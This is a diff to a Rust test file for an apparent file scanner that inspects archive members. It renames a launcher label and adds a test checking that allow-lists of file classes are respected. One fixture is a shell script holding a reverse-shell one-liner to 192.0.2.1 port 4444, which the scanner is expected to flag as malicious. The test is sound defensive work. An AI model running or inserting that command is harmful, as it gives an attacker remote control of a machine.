@@ -12,7 +12,7 @@ use std::{io::Write, time::Duration};
 const SHORTCUT: &[u8] = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b\0\x08\0\x20\0\0\0";
 const PROGRAM: &str = "a program";
 const MACROS: &str = "a document with macros";
-const LAUNCHER: &str = "a file that starts programs or opens pages";
+const LAUNCHER: &str = "a shortcut or launcher";
 
 fn others(name: &str) -> Vec<u8> {
     let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../tests/corpus/others");
@@ -76,8 +76,21 @@ fn what_is_refused_alone_does_not_pass_inside() {
         let found = inspected("application/x-7z-compressed", "a.7z", &seven_zip(&[(name, &bytes)]));
         assert!([Outcome::Mismatch, Outcome::Malicious].contains(&found.outcome), "{name}: {found:?}");
     }
-    // Its content tells, and a rule knows it too.
-    assert_eq!(zipped(&[("a.txt", SHORTCUT)]).outcome, Outcome::Malicious);
+    // Its content tells.
+    assert_found(&zipped(&[("a.txt", SHORTCUT)]), Outcome::Mismatch, &not_taken(LAUNCHER, "a.txt"));
+}
+
+#[test]
+fn a_rule_that_only_recognises_a_class_follows_the_policy_and_others_do_not() {
+    let script = b"#!/bin/sh\necho hello\n";
+    let archive = zip(&[("build.sh", script), ("a.txt", SHORTCUT)]);
+    assert_eq!(allowing("scripts,launchers", &archive).outcome, Outcome::Clean);
+    let found = allowing("launchers", &archive);
+    assert_found(&found, Outcome::Mismatch, &not_taken("a script", "build.sh"));
+    // What a script does may be malice all the same, whatever is allowed.
+    let connects = b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n";
+    let found = allowing(AllowedMembers::ALL, &zip(&[("build.sh", connects)]));
+    assert_eq!(found.outcome, Outcome::Malicious, "{found:?}");
 }
 
 #[test]
